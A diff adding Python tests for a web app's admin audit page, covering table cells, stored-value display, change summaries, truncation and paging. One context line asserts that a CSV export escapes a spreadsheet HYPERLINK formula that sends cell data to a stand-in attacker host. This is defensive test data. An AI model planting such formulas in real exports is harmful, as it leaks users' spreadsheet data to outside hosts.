@@ -111,6 +111,61 @@ def test_the_csv_export_escapes_formula_looking_values(client, build, admin):
     assert rows[-1][4:] == ["Grow revenue", '\'=HYPERLINK("http://evil.example/?"&A1,"click")']
 
 
+def cell(page: str, column: int, row: int = 0) -> str:
+    """The text of a body cell (0-based column: time, actor, action, object, before, after)."""
+    body = page.split("<tbody>")[1].split("</tbody>")[0]
+    return body.split("<tr>")[row + 1].split("<td>")[column + 1].split("</td>")[0]
+
+
+def test_a_bare_number_reads_with_what_the_action_counts(client, build, admin):
+    add_event(None, "cycle.snapshot", datetime(2026, 1, 5), object_type="cycle", after=173)
+    add_event(admin, "kr.grade", datetime(2026, 1, 4), object_type="key_result", before=0.7, after=0.9)
+    page = client.get("/admin/audit/").get_data(as_text=True)
+    assert "173 key results frozen" in cell(page, 5, row=0)
+    assert "grade 0.7" in cell(page, 4, row=1) and "grade 0.9" in cell(page, 5, row=1)
+
+
+def test_a_stored_object_reads_as_key_value_lines(client, admin):
+    add_event(None, "demo.load", datetime(2026, 1, 5), object_type="cycle",
+              after={"people": 60, "check_ins": 1219, "private": False, "team": None,
+                     "periods": ["2025-Q1", "2025-Q2"], "totals": {"USD": "160771.35"}})
+    after = cell(client.get("/admin/audit/").get_data(as_text=True), 5)
+    for line in ("<dt>people</dt><dd>60</dd>", "<dt>check ins</dt><dd>1219</dd>", "<dt>private</dt><dd>no</dd>",
+                 "<dt>team</dt><dd>—</dd>", "<dt>periods</dt><dd>2025-Q1, 2025-Q2</dd>",
+                 "<dt>totals</dt><dd>USD: 160771.35</dd>"):
+        assert line in after, line
+    assert "{" not in after
+
+
+def test_an_update_shows_what_changed_and_names_what_did_not(client, admin):
+    add_event(admin, "kr.update", datetime(2026, 1, 5), object_type="key_result",
+              before={"title": "Close deals", "start": 0, "target": 10}, after={"title": "Close deals", "start": 0,
+                                                                                 "target": 12})
+    page = client.get("/admin/audit/").get_data(as_text=True)
+    before, after = cell(page, 4), cell(page, 5)
+    assert "<dt>target</dt><dd>10</dd>" in before and "<dt>target</dt><dd>12</dd>" in after
+    assert "Close deals" not in before + after and "Unchanged: start, title" in after  # stored keys sort
+
+
+def test_a_long_list_inside_a_value_is_cut_with_a_count_of_the_rest(client, admin):
+    add_event(None, "cycle.close", datetime(2026, 1, 5), object_type="cycle",
+              after={"state": "closed", "grades": {str(kr): 0.5 for kr in range(11, 21)}})
+    after = cell(client.get("/admin/audit/").get_data(as_text=True), 5)
+    # 10 grades, 6 shown: 4 more
+    assert "<dt>grades</dt><dd>11: 0.5, 12: 0.5, 13: 0.5, 14: 0.5, 15: 0.5, 16: 0.5 … and 4 more</dd>" in after
+
+
+def test_the_pager_says_which_page_of_how_many_and_stops_at_the_last(client, admin):
+    for n in range(101):  # one more than a page of 100
+        add_event(None, "a.event", datetime(2026, 1, 1, 0, n // 60, n % 60), object_id=str(n))
+    first = client.get("/admin/audit/").get_data(as_text=True)
+    assert "Page 1 of 2 · 101 events" in first and "Older →" in first and "← Newer" not in first
+    beyond = client.get("/admin/audit/?page=9").get_data(as_text=True)
+    assert "Page 2 of 2 · 101 events" in beyond and "Older →" not in beyond and "person:0<" in beyond
+    empty = client.get("/admin/audit/?action=nothing.matches").get_data(as_text=True)
+    assert "Page 1 of 1 · 0 events" in empty and "No events match." in empty
+
+
 # --- the trail records what matters -------------------------------------------------------------
 
 def test_role_changes_imports_and_deactivations_all_land_in_the_trail(client, build, admin):
